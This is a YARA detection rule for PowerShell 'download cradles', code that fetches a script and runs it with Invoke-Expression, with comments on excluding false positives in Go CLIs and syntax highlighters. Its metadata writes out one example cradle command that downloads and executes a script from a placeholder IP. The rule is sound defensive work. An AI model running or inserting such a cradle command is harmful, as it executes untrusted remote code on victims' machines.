rule powershell_download_cradle : behavior
{
    meta:
        description = "PowerShell that downloads code and runs it in one go (download cradle): the download and Invoke-Expression within a few lines of each other"
        severity = "high"
        kind = "behavior"
        example_match = "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\""
        example_benign = "Invoke-WebRequest -Uri https://example.org/data.json -OutFile data.json"
    strings:
        // One command or a few lines, in either order. The words alone, megabytes apart in a
        // program, are no cradle: every cobra-based Go CLI embeds a PowerShell completion
        // script with Invoke-Expression, and restic also links a DownloadFileByName method.
        $download_then_run = /(DownloadString|DownloadFile|Invoke-WebRequest|Net\.WebClient|Start-BitsTransfer|\biwr\s+(-uri\s+)?['"]?https?:).{0,512}(Invoke-Expression|\biex\s*[(\s]|\|\s*iex\b)/is ascii wide
        $run_then_download = /(Invoke-Expression|\biex\s*[(\s]|\|\s*iex\b).{0,512}(DownloadString|DownloadFile|Invoke-WebRequest|Net\.WebClient|Start-BitsTransfer|\biwr\s+(-uri\s+)?['"]?https?:)/is ascii wide
        // PowerShell's cmdlets listed in order (a syntax highlighter's keyword table: pandoc's
        // skylighting) put Invoke-Expression a few names before Invoke-WebRequest: a list of
        // names, not a command. Only a match that starts such a list, with no code between
        // the names (no brackets, quotes, variables, pipes or assignments), is set aside.
        $cmdlet_table = /Invoke-Expression[^()'"$;|=]{0,64}Invoke-History[^()'"$;|=]{0,64}Invoke-Item[^()'"$;|=]{0,256}(Invoke-RestMethod|Invoke-WebRequest|DownloadString|DownloadFile|Start-BitsTransfer)/is ascii wide
        // The same names glued by bars, with no space: a regular expression's alternation in
        // an editor's PowerShell mode (ace's mode-powershell.js, which mediawiki ships). A
        // pipe from Invoke-Expression into a download would run nothing fetched.
        $cmdlet_alternation = /Invoke-Expression(\|[A-Z][a-z]+-[A-Za-z]+){0,40}\|(Invoke-RestMethod|Invoke-WebRequest|Start-BitsTransfer)\b/ ascii wide
    condition:
        $download_then_run or
        for any i in (1..#run_then_download) : (
            not for any j in (1..#cmdlet_table) : (@cmdlet_table[j] == @run_then_download[i]) and
            not for any k in (1..#cmdlet_alternation) : (
                @cmdlet_alternation[k] == @run_then_download[i]
            )
        )
}
